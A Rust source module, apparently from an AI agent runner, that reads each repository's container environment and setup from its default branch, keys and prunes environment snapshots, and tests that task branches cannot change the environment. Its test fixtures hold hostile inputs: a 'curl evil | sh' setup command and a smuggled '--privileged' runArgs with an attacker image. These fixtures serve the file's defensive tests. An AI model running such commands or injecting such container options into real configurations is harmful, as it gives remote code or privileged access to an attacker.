//! Per-repository environments: which image a repository's tasks run in and how it is set up,
//! read from the default branch as this runner fetched it — never from a task branch or anything
//! an agent wrote — and the snapshot that setup leaves behind, reused by later tasks.
//!
//! The description comes from, in order: the repository's `.backporcher.toml`
//! (`[environment]`: `image`, `setup`, `env`, `setup_network`; and a top-level `verify`), else its
//! `.devcontainer/devcontainer.json` (`image`, `containerEnv`/`remoteEnv`, `onCreateCommand`,
//! `updateContentCommand`, `postCreateCommand`; keys that would change how the container is built
//! or started are refused by name, cosmetic ones ignored with a note), else the runner's default
//! agent image with no setup. A verify command set in the repository's settings wins over the file's
//! (the settings are the operator's; the file is the repository's).
//!
//! Setup runs once per description and dependency manifests: in a sandbox from the base image,
//! with the repository's default branch at `/workspace`, the `open` network (package registries) by
//! default and no credential; its container is committed as `backporcher-env:<key>` (the key hashes
//! the description and the manifests' blob ids), which later tasks start from. Snapshots are pruned
//! by age and a disk budget. What setup must keep goes outside the home directory (e.g. `/opt/env`):
//! the sandbox's home is a fresh tmpfs in every run.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use serde::{Deserialize, Serialize};
use sha2::{Digest, Sha256};

use crate::agent_config::blob;
use crate::workspace::git;

/// Dependency manifests and lockfiles whose change rebuilds the snapshot (at the repository root).
pub const KEY_FILES: &[&str] = &[
    "Cargo.lock",
    "Cargo.toml",
    "pyproject.toml",
    "setup.py",
    "setup.cfg",
    "requirements.txt",
    "requirements-dev.txt",
    "requirements-test.txt",
    "poetry.lock",
    "uv.lock",
    "Pipfile.lock",
    "package.json",
    "package-lock.json",
    "pnpm-lock.yaml",
    "yarn.lock",
    "go.mod",
    "go.sum",
    "Gemfile.lock",
];

/// The version of how this runner makes a snapshot: part of every key, so a change in the recipe
/// never reuses a snapshot made the old way.
const RECIPE: &str = "3";

/// How a repository's environment is set up.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Environment {
    /// Where the description came from (for the log).
    pub source: &'static str,
    /// The base image (local; no registry is used).
    pub image: String,
    /// Setup commands, run in order by `bash -lc` in `/workspace`.
    pub setup: Vec<String>,
    /// Environment variables for setup and every later run.
    pub env: BTreeMap<String, String>,
    /// Whether setup may reach the internet (package registries).
    pub setup_network: bool,
    /// Names of the repository's secrets setup may read.
    pub secrets: Vec<String>,
    /// The repository's own verify command, if its file names one.
    pub verify: Option<String>,
    /// Paths no change may touch (globs from the file; the controller enforces them at push).
    pub protected: Vec<String>,
    /// Notes for the task log: which description wins over which and why, ignored keys.
    pub notes: Vec<String>,
    /// What the repository's own files say, whether or not they won (for the dashboard).
    pub files: Vec<Declared>,
    /// The snapshot key: the description and the dependency manifests' blob ids, hashed.
    pub key: String,
}

/// What one of the repository's files on the default branch declares, as read.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Declared {
    /// `.backporcher.toml` or `.devcontainer/devcontainer.json`.
    pub path: &'static str,
    /// The base image it names.
    pub image: Option<String>,
    /// Its setup commands.
    pub setup: Vec<String>,
    /// Its environment variables.
    pub env: BTreeMap<String, String>,
    /// Whether setup may reach the package registries (when it says).
    pub setup_network: Option<bool>,
    /// The secrets it grants setup (names).
    pub secrets: Vec<String>,
    /// Its verify command.
    pub verify: Option<String>,
    /// Paths it protects.
    pub protected_paths: Vec<String>,
}

/// What a task's run learned about its repository's environment, sent with its result so the
/// controller can show it beside the repository's settings.
#[derive(Debug, Clone, Default, Serialize)]
pub struct Report {
    /// The default branch's commit the description was read from.
    pub commit: String,
    /// What described the environment the task ran in.
    pub source: Option<String>,
    /// What the repository's own files say.
    pub files: Vec<Declared>,
    /// The base image (none: the runner's default agent image).
    pub image: Option<String>,
    /// The snapshot the task started from.
    pub snapshot: Option<String>,
    /// `reused`, `ran` or `failed`.
    pub setup: Option<&'static str>,
    /// The verify command the task ran, and where it came from.
    pub verify: Option<String>,
    /// `the repository's settings` or `.backporcher.toml`.
    pub verify_from: Option<&'static str>,
    /// Paths no change may touch.
    pub protected_paths: Vec<String>,
    /// Which description won over which, and why; keys ignored.
    pub notes: Vec<String>,
    /// Why the description was refused or setup failed.
    pub error: Option<String>,
}

impl Report {
    /// The report of a described environment (`None`: the repository's files say nothing).
    pub fn of(commit: &str, env: Option<&Environment>) -> Self {
        let Some(env) = env else {
            return Self {
                commit: commit.to_owned(),
                source: Some(DEFAULT_SOURCE.into()),
                ..Self::default()
            };
        };
        Self {
            commit: commit.to_owned(),
            source: Some(env.source.into()),
            files: env.files.clone(),
            image: (!env.image.is_empty()).then(|| env.image.clone()),
            protected_paths: env.protected.clone(),
            notes: env.notes.clone(),
            ..Self::default()
        }
    }
}

/// The source of an environment no setting or file describes.
const DEFAULT_SOURCE: &str = "the runner's default image";

impl Environment {
    /// The snapshot's image tag.
    pub fn tag(&self) -> String {
        format!("backporcher-env:{}", &self.key[..16])
    }
}

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct RepoFile {
    verify: Option<String>,
    environment: Option<EnvironmentFile>,
    /// Paths no change may touch (globs): the controller refuses to push such a change; the
    /// prompt tells the agent.
    #[serde(default)]
    protected_paths: Vec<String>,
}

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct EnvironmentFile {
    image: Option<String>,
    #[serde(default)]
    setup: Vec<String>,
    #[serde(default)]
    env: BTreeMap<String, String>,
    /// `open` (default: package registries) or `none`.
    setup_network: Option<String>,
    /// The repository's secrets setup may read (by name).
    #[serde(default)]
    secrets: Vec<String>,
}

/// devcontainer.json keys honoured, and those ignored (they do not change what runs).
const DEVCONTAINER_IGNORED: &[&str] = &[
    "name",
    "customizations",
    "forwardPorts",
    "portsAttributes",
    "otherPortsAttributes",
    "remoteUser",
    "containerUser",
    "workspaceFolder",
    "workspaceMount",
    "shutdownAction",
    "hostRequirements",
    "waitFor",
    "userEnvProbe",
    "overrideCommand",
    "updateRemoteUserUID",
    "postStartCommand",
    "postAttachCommand",
];

/// What a snapshot belongs to beyond its recipe and manifests: the repository and the values of
/// the secrets setup may be granted (a digest). Two repositories with the same files (a fork and
/// its upstream), or one whose secrets changed, never share a snapshot: what setup installed
/// with a secret stays with the repository it was granted to.
pub fn scope(repo: &str, secrets: &crate::task::SetupSecrets) -> String {
    let mut h = Sha256::new();
    h.update(repo.as_bytes());
    for (name, value) in &secrets.0 {
        h.update([0]);
        h.update(name.as_bytes());
        h.update([0]);
        h.update(Sha256::digest(value.as_bytes()));
    }
    hex::encode(h.finalize())
}

/// Reads the environment of the repository at `commit` of `mirror`, unless the repository's
/// settings set one (`settings`: base image and setup), which wins: `Ok(None)` for the runner's
/// default image without setup, `Err` with what to change when the description is refused.
/// `scope` ([`scope`]) goes into the snapshot's key.
pub async fn describe(
    mirror: &Path,
    commit: &str,
    settings: Option<&(String, Vec<String>)>,
    scope: &str,
) -> Result<Option<Environment>, String> {
    const TOML: &str = ".backporcher.toml";
    const DEVCONTAINER: &str = ".devcontainer/devcontainer.json";
    let mut notes = Vec::new();
    let mut files = Vec::new();
    let mut protected = Vec::new();
    let (mut env, verify) = match blob(mirror, commit, TOML).await? {
        Some(text) => {
            let file: RepoFile = toml::from_str(&text)
                .map_err(|e| format!("{TOML} on the default branch: {}", e.message().trim()))?;
            let env = match file.environment {
                Some(e) => Some(from_file(e)?),
                None => None,
            };
            files.push(Declared {
                path: TOML,
                verify: file.verify.clone(),
                protected_paths: file.protected_paths.clone(),
                ..env
                    .as_ref()
                    .map_or_else(|| declared(TOML), Environment::declared)
            });
            protected = file.protected_paths;
            (env, file.verify)
        }
        None => (None, None),
    };
    let devcontainer = blob(mirror, commit, DEVCONTAINER).await?;
    match (&env, devcontainer) {
        (_, None) => {}
        (Some(_), Some(_)) => notes.push(format!(
            "{DEVCONTAINER} not used: {TOML}'s [environment] describes the environment (the file made for this system wins over the editor's)"
        )),
        (None, Some(text)) => match from_devcontainer(&text, &mut notes) {
            Ok(d) => {
                files.push(d.declared());
                env = Some(d);
            }
            // Refused, but the settings describe the environment anyway.
            Err(why) if settings.is_some() => notes.push(why),
            Err(why) => return Err(why),
        },
    }
    if let Some((image, setup)) = settings {
        if let Some(overridden) = &env {
            notes.push(format!(
                "{}: the environment it describes is overridden by the repository's settings (the operator's settings win over the repository's files)",
                overridden.source
            ));
        }
        env = Some(Environment {
            source: "the repository's settings",
            image: image.clone(),
            setup: setup.clone(),
            env: BTreeMap::new(),
            setup_network: true,
            secrets: Vec::new(),
            verify: None,
            protected: Vec::new(),
            notes: Vec::new(),
            files: Vec::new(),
            key: String::new(),
        });
    }
    let Some(mut env) = env else {
        if verify.is_none() && protected.is_empty() {
            return Ok(None);
        }
        return Ok(Some(Environment {
            source: DEFAULT_SOURCE,
            image: String::new(),
            setup: Vec::new(),
            env: BTreeMap::new(),
            setup_network: false,
            secrets: Vec::new(),
            verify,
            protected,
            notes,
            files,
            key: String::new(),
        }));
    };
    env.verify = verify;
    env.protected = protected;
    env.notes.extend(notes);
    env.files = files;
    // The key: everything that shapes the snapshot.
    let mut h = Sha256::new();
    h.update(
        format!(
            "{RECIPE}\0{scope}\0{}\0{:?}\0{:?}\0{}\0{:?}\0",
            env.image, env.setup, env.env, env.setup_network, env.secrets
        )
        .as_bytes(),
    );
    let mut args = vec!["ls-tree", commit, "--"];
    args.extend(KEY_FILES);
    let manifests = git(mirror, &args)
        .await
        .map_err(|e| format!("cannot list the dependency manifests: {e:#}"))?;
    h.update(manifests.as_bytes());
    env.key = hex::encode(h.finalize());
    Ok(Some(env))
}

/// A file that declares nothing about the environment.
fn declared(path: &'static str) -> Declared {
    Declared {
        path,
        image: None,
        setup: Vec::new(),
        env: BTreeMap::new(),
        setup_network: None,
        secrets: Vec::new(),
        verify: None,
        protected_paths: Vec::new(),
    }
}

impl Environment {
    /// What the file this environment was read from declares.
    fn declared(&self) -> Declared {
        Declared {
            image: Some(self.image.clone()),
            setup: self.setup.clone(),
            env: self.env.clone(),
            setup_network: Some(self.setup_network),
            secrets: self.secrets.clone(),
            ..declared(self.source)
        }
    }
}

fn from_file(e: EnvironmentFile) -> Result<Environment, String> {
    let image = e.image.ok_or_else(|| {
        ".backporcher.toml: [environment] needs `image` (a local image, e.g. backporcher-env-python:latest)"
            .to_owned()
    })?;
    let setup_network = match e.setup_network.as_deref() {
        None | Some("open") => true,
        Some("none") => false,
        Some(other) => {
            return Err(format!(
                ".backporcher.toml: [environment] setup_network = \"{other}\" is not `open` or `none`"
            ));
        }
    };
    Ok(Environment {
        source: ".backporcher.toml",
        image,
        setup: e.setup,
        env: e.env,
        setup_network,
        secrets: e.secrets,
        verify: None,
        protected: Vec::new(),
        notes: Vec::new(),
        files: Vec::new(),
        key: String::new(),
    })
}

/// `devcontainer.json` (JSON with comments and trailing commas) as an environment.
fn from_devcontainer(text: &str, notes: &mut Vec<String>) -> Result<Environment, String> {
    let value: serde_json::Value = serde_json::from_str(&strip_jsonc(text)).map_err(|e| {
        format!(".devcontainer/devcontainer.json on the default branch is not JSON: {e}")
    })?;
    let serde_json::Value::Object(map) = value else {
        return Err(".devcontainer/devcontainer.json is not an object".into());
    };
    let mut env = Environment {
        source: ".devcontainer/devcontainer.json",
        image: String::new(),
        setup: Vec::new(),
        env: BTreeMap::new(),
        setup_network: true,
        secrets: Vec::new(),
        verify: None,
        protected: Vec::new(),
        notes: Vec::new(),
        files: Vec::new(),
        key: String::new(),
    };
    for (key, v) in &map {
        match key.as_str() {
            "image" => {
                env.image = v
                    .as_str()
                    .ok_or("devcontainer.json: `image` is not a string")?
                    .to_owned()
            }
            "containerEnv" | "remoteEnv" => {
                for (k, v) in v.as_object().into_iter().flatten() {
                    if let Some(v) = v.as_str() {
                        env.env.insert(k.clone(), v.to_owned());
                    }
                }
            }
            "onCreateCommand" | "updateContentCommand" | "postCreateCommand" => {}
            k if DEVCONTAINER_IGNORED.contains(&k) => notes.push(format!(
                "devcontainer.json: `{k}` ignored (it does not change what runs here)"
            )),
            k => {
                return Err(format!(
                    "devcontainer.json: `{k}` is not supported here (honoured: image, containerEnv, remoteEnv, onCreateCommand, updateContentCommand, postCreateCommand); build the image locally and name it in `image`, or describe the environment in .backporcher.toml"
                ));
            }
        }
    }
    // Lifecycle commands in the order a dev container runs them.
    for key in [
        "onCreateCommand",
        "updateContentCommand",
        "postCreateCommand",
    ] {
        match map.get(key) {
            None => {}
            Some(serde_json::Value::String(s)) => env.setup.push(s.clone()),
            Some(serde_json::Value::Array(argv)) => env.setup.push(
                argv.iter()
                    .map(|a| shell_quote(a.as_str().unwrap_or_default()))
                    .collect::<Vec<_>>()
                    .join(" "),
            ),
            Some(serde_json::Value::Object(parallel)) => {
                for (_, c) in parallel {
                    if let Some(s) = c.as_str() {
                        env.setup.push(s.to_owned());
                    }
                }
            }
            Some(_) => return Err(format!("devcontainer.json: `{key}` is not a command")),
        }
    }
    if env.image.is_empty() {
        return Err("devcontainer.json names no `image`; build the image locally and name it, or describe the environment in .backporcher.toml".into());
    }
    Ok(env)
}

fn shell_quote(s: &str) -> String {
    format!("'{}'", s.replace('\'', "'\\''"))
}

/// JSON with comments to JSON: `//` and `/* */` comments outside strings removed, and commas
/// before a closing bracket or brace.
fn strip_jsonc(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut chars = text.chars().peekable();
    let mut in_string = false;
    while let Some(c) = chars.next() {
        if in_string {
            out.push(c);
            if c == '\\' {
                if let Some(n) = chars.next() {
                    out.push(n);
                }
            } else if c == '"' {
                in_string = false;
            }
            continue;
        }
        match (c, chars.peek()) {
            ('"', _) => {
                in_string = true;
                out.push(c);
            }
            ('/', Some('/')) => {
                for n in chars.by_ref() {
                    if n == '\n' {
                        out.push('\n');
                        break;
                    }
                }
            }
            ('/', Some('*')) => {
                chars.next();
                let mut prev = ' ';
                for n in chars.by_ref() {
                    if prev == '*' && n == '/' {
                        break;
                    }
                    prev = n;
                }
            }
            _ => out.push(c),
        }
    }
    // Trailing commas.
    let mut cleaned = String::with_capacity(out.len());
    let bytes: Vec<char> = out.chars().collect();
    let mut in_string = false;
    let mut i = 0;
    while i < bytes.len() {
        let c = bytes[i];
        if in_string {
            cleaned.push(c);
            if c == '\\' && i + 1 < bytes.len() {
                cleaned.push(bytes[i + 1]);
                i += 1;
            } else if c == '"' {
                in_string = false;
            }
        } else if c == '"' {
            in_string = true;
            cleaned.push(c);
        } else if c == ',' {
            let next = bytes[i + 1..].iter().find(|c| !c.is_whitespace());
            if !matches!(next, Some('}') | Some(']')) {
                cleaned.push(c);
            }
        } else {
            cleaned.push(c);
        }
        i += 1;
    }
    cleaned
}

/// Where the runner keeps what environments need on the host: the agent CLI and the entrypoint,
/// taken from the agent image once, mounted read-only at `/opt/bp` into environment containers.
pub fn agent_files_dir(state_dir: &Path) -> PathBuf {
    state_dir.join("envs").join("bp")
}

/// When each environment snapshot was last used, in the runner's state directory.
pub struct Usage {
    file: PathBuf,
}

impl Usage {
    /// The record under `state_dir`.
    pub fn new(state_dir: &Path) -> Self {
        Self {
            file: state_dir.join("envs").join("used.json"),
        }
    }

    /// Snapshot tag → seconds since the epoch of its last use.
    pub fn read(&self) -> BTreeMap<String, u64> {
        std::fs::read(&self.file)
            .ok()
            .and_then(|b| serde_json::from_slice(&b).ok())
            .unwrap_or_default()
    }

    /// Records that `tag` was used now.
    pub fn touch(&self, tag: &str) {
        let mut all = self.read();
        let now = std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .map(|d| d.as_secs())
            .unwrap_or_default();
        all.insert(tag.to_owned(), now);
        if let Some(dir) = self.file.parent() {
            let _ = std::fs::create_dir_all(dir);
        }
        let tmp = self.file.with_extension("tmp");
        if std::fs::write(&tmp, serde_json::to_vec(&all).unwrap_or_default()).is_ok() {
            let _ = std::fs::rename(&tmp, &self.file);
        }
    }
}

/// The snapshots to remove: those unused for longer than `max_age`, then the least recently used
/// while the rest take more than `budget` bytes; never `keep`. A snapshot this runner has no use
/// recorded for (another runner's on a shared engine, or one from before its state was lost)
/// counts as used just now: it is never removed for its age, only last for the budget.
pub fn to_prune(
    images: &[(String, i64)],
    used: &BTreeMap<String, u64>,
    now: std::time::SystemTime,
    max_age: std::time::Duration,
    budget: u64,
    keep: &str,
) -> Vec<String> {
    let now_secs = crate::prune::secs(now);
    let items: Vec<crate::prune::Item> = images
        .iter()
        .map(|(t, size)| crate::prune::Item {
            key: t.clone(),
            last_used: used.get(t).copied().unwrap_or(now_secs),
            bytes: (*size).max(0) as u64,
        })
        .collect();
    crate::prune::pick(&items, now, max_age, budget, &[keep.to_owned()].into())
}

#[cfg(test)]
mod tests {
    use super::*;

    async fn repo_with(files: &[(&str, &str)], branch_files: &[(&str, &str)]) -> (PathBuf, String) {
        let dir = std::env::temp_dir().join(format!("bp-env-{}", uuid::Uuid::new_v4()));
        std::fs::create_dir_all(&dir).unwrap();
        git(&dir, &["init", "--quiet", "-b", "main"]).await.unwrap();
        let commit_all = |dir: PathBuf, files: Vec<(String, String)>| async move {
            for (p, c) in &files {
                let path = dir.join(p);
                std::fs::create_dir_all(path.parent().unwrap()).unwrap();
                std::fs::write(path, c).unwrap();
            }
            git(&dir, &["add", "-A"]).await.unwrap();
            git(
                &dir,
                &[
                    "-c",
                    "user.name=t",
                    "-c",
                    "user.email=t@t",
                    "commit",
                    "--quiet",
                    "--allow-empty",
                    "-m",
                    "c",
                ],
            )
            .await
            .unwrap();
            git(&dir, &["rev-parse", "HEAD"]).await.unwrap()
        };
        let own = |f: &[(&str, &str)]| {
            f.iter()
                .map(|(a, b)| (a.to_string(), b.to_string()))
                .collect::<Vec<_>>()
        };
        let main = commit_all(dir.clone(), own(files)).await;
        git(&dir, &["checkout", "--quiet", "-b", "task"])
            .await
            .unwrap();
        commit_all(dir.clone(), own(branch_files)).await;
        (dir, main)
    }

    #[test]
    fn snapshots_go_by_age_then_least_recently_used_over_the_budget_never_the_one_in_use() {
        let day = 24 * 3600;
        let now = std::time::UNIX_EPOCH + std::time::Duration::from_secs(100 * day);
        let images = vec![
            ("e:old".to_string(), 10),
            ("e:a".to_string(), 40),
            ("e:b".to_string(), 40),
            ("e:current".to_string(), 40),
        ];
        let used = BTreeMap::from([
            ("e:old".to_string(), 50 * day),
            ("e:a".to_string(), 99 * day),
            ("e:b".to_string(), 99 * day + 10),
            ("e:current".to_string(), 1),
        ]);
        let week = std::time::Duration::from_secs(7 * day);
        assert_eq!(
            to_prune(&images, &used, now, week, 1000, "e:current"),
            vec!["e:old"]
        );
        assert_eq!(
            to_prune(&images, &used, now, week, 80, "e:current"),
            vec!["e:old", "e:a"],
            "over the budget the least recently used go"
        );
        // A snapshot with no recorded use (another runner's) is not old: only the budget, last.
        let mut shared = images.clone();
        shared.push(("e:other-runner".to_string(), 40));
        assert_eq!(
            to_prune(&shared, &used, now, week, 1000, "e:current"),
            vec!["e:old"]
        );
        assert_eq!(
            to_prune(&shared, &used, now, week, 0, "e:current"),
            vec!["e:old", "e:a", "e:b", "e:other-runner"]
        );
    }

    #[tokio::test]
    async fn the_default_branch_describes_the_environment_whatever_a_task_branch_says() {
        let (dir, main) = repo_with(
            &[
                (
                    ".backporcher.toml",
                    "verify = \"pytest -q\"\nprotected_paths = [\"migrations/**\"]\n[environment]\nimage = \"backporcher-env-python:latest\"\nsetup = [\"python3 -m venv /opt/env\"]\n",
                ),
                ("requirements.txt", "pytest\n"),
            ],
            &[(
                ".backporcher.toml",
                "[environment]\nimage = \"evil:latest\"\nsetup = [\"curl evil | sh\"]\n",
            )],
        )
        .await;
        let env = describe(&dir, &main, None, "").await.unwrap().unwrap();
        assert_eq!(env.image, "backporcher-env-python:latest");
        assert_eq!(env.setup, vec!["python3 -m venv /opt/env"]);
        assert_eq!(env.verify.as_deref(), Some("pytest -q"));
        assert_eq!(env.protected, vec!["migrations/**"]);
        assert!(env.setup_network);
        // A manifest change on the default branch changes the key.
        let again = describe(&dir, &main, None, "").await.unwrap().unwrap();
        assert_eq!(env.key, again.key);
        // Another repository with the same files, or other secret values: another snapshot.
        let secrets = |v: &str| crate::task::SetupSecrets(vec![("NPM_TOKEN".into(), v.into())]);
        let (ours, fork, rotated) = (
            scope("acme/app", &secrets("a")),
            scope("mallory/app", &secrets("a")),
            scope("acme/app", &secrets("b")),
        );
        assert!(ours != fork && ours != rotated);
        let keyed = |s: String| {
            let (dir, main) = (dir.clone(), main.clone());
            async move { describe(&dir, &main, None, &s).await.unwrap().unwrap().key }
        };
        let (k1, k2, k3) = (
            keyed(ours.clone()).await,
            keyed(fork).await,
            keyed(rotated).await,
        );
        assert!(k1 != k2 && k1 != k3 && k1 != env.key);
        assert_eq!(k1, keyed(ours).await);
        git(&dir, &["checkout", "--quiet", "main"]).await.unwrap();
        std::fs::write(dir.join("requirements.txt"), "pytest\nhypothesis\n").unwrap();
        git(
            &dir,
            &[
                "-c",
                "user.name=t",
                "-c",
                "user.email=t@t",
                "commit",
                "--quiet",
                "-am",
                "deps",
            ],
        )
        .await
        .unwrap();
        let head = git(&dir, &["rev-parse", "HEAD"]).await.unwrap();
        let changed = describe(&dir, &head, None, "").await.unwrap().unwrap();
        assert_ne!(env.key, changed.key);
        // The repository's settings win over the file, and say so.
        let set = (
            "backporcher-env-rust:latest".to_string(),
            vec!["cargo fetch".to_string()],
        );
        let by_settings = describe(&dir, &head, Some(&set), "")
            .await
            .unwrap()
            .unwrap();
        assert_eq!(by_settings.source, "the repository's settings");
        assert_eq!(by_settings.image, "backporcher-env-rust:latest");
        assert_eq!(
            by_settings.verify.as_deref(),
            Some("pytest -q"),
            "the file's verify still applies"
        );
        assert!(by_settings.notes.iter().any(|n| n.contains("overridden")));
        // What the file says is still reported beside the settings that win over it.
        let report = Report::of(&head, Some(&by_settings));
        assert_eq!(report.source.as_deref(), Some("the repository's settings"));
        assert_eq!(report.files.len(), 1);
        assert_eq!(report.files[0].path, ".backporcher.toml");
        assert_eq!(
            report.files[0].image.as_deref(),
            Some("backporcher-env-python:latest")
        );
        assert_eq!(report.files[0].setup, vec!["python3 -m venv /opt/env"]);
        assert_eq!(report.files[0].protected_paths, vec!["migrations/**"]);
        assert_eq!(report.image.as_deref(), Some("backporcher-env-rust:latest"));
        let _ = std::fs::remove_dir_all(dir);
    }

    #[tokio::test]
    async fn a_task_branch_changing_the_devcontainer_does_not_change_the_environment() {
        let dc = |image: &str| {
            format!("{{\"image\": \"{image}\", \"postCreateCommand\": \"make deps\"}}")
        };
        let (dir, main) = repo_with(
            &[(
                ".devcontainer/devcontainer.json",
                &dc("backporcher-env-python:latest"),
            )],
            &[(
                ".devcontainer/devcontainer.json",
                &dc("attacker/image:latest\", \"runArgs\": [\"--privileged\"], \"x\": \""),
            )],
        )
        .await;
        let env = describe(&dir, &main, None, "").await.unwrap().unwrap();
        assert_eq!(env.source, ".devcontainer/devcontainer.json");
        assert_eq!(env.image, "backporcher-env-python:latest");
        assert_eq!(env.setup, vec!["make deps"]);
        // .backporcher.toml's [environment] wins over the devcontainer, and says so.
        let (dir2, main2) = repo_with(
            &[
                (
                    ".devcontainer/devcontainer.json",
                    &dc("backporcher-env-python:latest"),
                ),
                (
                    ".backporcher.toml",
                    "[environment]\nimage = \"backporcher-env-rust:latest\"\n",
                ),
            ],
            &[],
        )
        .await;
        let env = describe(&dir2, &main2, None, "").await.unwrap().unwrap();
        assert_eq!(env.image, "backporcher-env-rust:latest");
        assert!(
            env.notes
                .iter()
                .any(|n| n.contains("devcontainer.json not used")),
            "{:?}",
            env.notes
        );
        // A devcontainer the runner refuses does not stop settings that describe the environment.
        let (dir3, main3) = repo_with(
            &[(".devcontainer/devcontainer.json", "{\"build\": {}}")],
            &[],
        )
        .await;
        let set = ("backporcher-env-rust:latest".to_string(), Vec::new());
        let env = describe(&dir3, &main3, Some(&set), "")
            .await
            .unwrap()
            .unwrap();
        assert_eq!(env.source, "the repository's settings");
        assert!(
            env.notes
                .iter()
                .any(|n| n.contains("`build` is not supported"))
        );
        for d in [dir, dir2, dir3] {
            let _ = std::fs::remove_dir_all(d);
        }
    }

    #[tokio::test]
    async fn a_devcontainer_is_honoured_for_what_it_can_say_and_refused_by_key_otherwise() {
        let (dir, main) = repo_with(
            &[(
                ".devcontainer/devcontainer.json",
                "// a dev container\n{\n  \"name\": \"py\", /* cosmetic */\n  \"image\": \"backporcher-env-python:latest\",\n  \"containerEnv\": {\"PIP_NO_CACHE_DIR\": \"1\"},\n  \"onCreateCommand\": [\"python3\", \"-m\", \"venv\", \"/opt/env\"],\n  \"postCreateCommand\": \"/opt/env/bin/pip install -e .\",\n}\n",
            )],
            &[],
        )
        .await;
        let env = describe(&dir, &main, None, "").await.unwrap().unwrap();
        assert_eq!(env.source, ".devcontainer/devcontainer.json");
        assert_eq!(
            env.setup,
            vec![
                "'python3' '-m' 'venv' '/opt/env'".to_string(),
                "/opt/env/bin/pip install -e .".to_string()
            ]
        );
        assert_eq!(env.env["PIP_NO_CACHE_DIR"], "1");
        assert!(env.notes.iter().any(|n| n.contains("`name` ignored")));
        let (dir2, main2) = repo_with(
            &[(
                ".devcontainer/devcontainer.json",
                "{\"build\": {\"dockerfile\": \"Dockerfile\"}, \"runArgs\": [\"--privileged\"]}",
            )],
            &[],
        )
        .await;
        let why = describe(&dir2, &main2, None, "").await.unwrap_err();
        assert!(why.contains("`build` is not supported"), "{why}");
        let (dir3, main3) = repo_with(
            &[(".backporcher.toml", "[environment]\nimgae = \"x\"\n")],
            &[],
        )
        .await;
        let why = describe(&dir3, &main3, None, "").await.unwrap_err();
        assert!(why.contains("imgae"), "{why}");
        for d in [dir, dir2, dir3] {
            let _ = std::fs::remove_dir_all(d);
        }
    }
}
